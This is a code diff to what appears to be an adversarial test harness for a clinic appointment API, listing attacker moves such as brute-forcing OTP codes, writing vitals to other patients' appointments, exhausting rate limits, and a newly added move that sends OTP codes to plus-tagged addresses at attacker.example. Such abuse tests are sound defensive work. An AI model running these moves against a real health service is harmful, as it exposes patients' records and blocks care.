@@ -42,6 +42,7 @@ export function movesOf({ url, from, headers, phoneNumber, widgetKey, day, slots
   const send = (method: string, path: string, body?: unknown, more: Record<string, string> = {}) =>
     ask({ url, from, method, path, headers: { ...headers, ...more }, body })
   let slot = 100
+  let tag = 0
   const book = (changes: Record<string, unknown>, place = slot++) => send('POST', '/v1/appointments/book-appointment-unified', bookingOf(day, place, changes))
   const search = (more?: Record<string, string>) => send('GET', `/v1/patients/search-by-phone?phoneNumber=${one(victims).phoneNumber}`, undefined, more)
   return {
@@ -55,6 +56,8 @@ export function movesOf({ url, from, headers, phoneNumber, widgetKey, day, slots
     'list patients': () => send('GET', '/v1/patients?page=0&size=100'),
     'write vitals for another': () => send('POST', `/v1/appointments/${one(victims).appointmentId}/vitals`, { vital: { pulse: 1 } }),
     'guess the code of another': () => send('POST', '/v1/otp/verify', { phoneNumber: one(victims).phoneNumber, otpCode: String(randomInt(1e5, 1e6)) }),
+    // Another contact each time, and one mailbox.
+    'take codes for tags of one mailbox': () => send('POST', '/v1/otp/send', { channel: 'email', email: `attacker+${tag++}@attacker.example` }),
     'fill the day': () => book({ patientPayload: { firstName: 'Attacker', phoneNumber } }, slot++ % 288),
     'use up the limit of reads': () => send('GET', '/v2/workspaces'),
     'use up the limit of slot lists': () => send('GET', slotsPath),
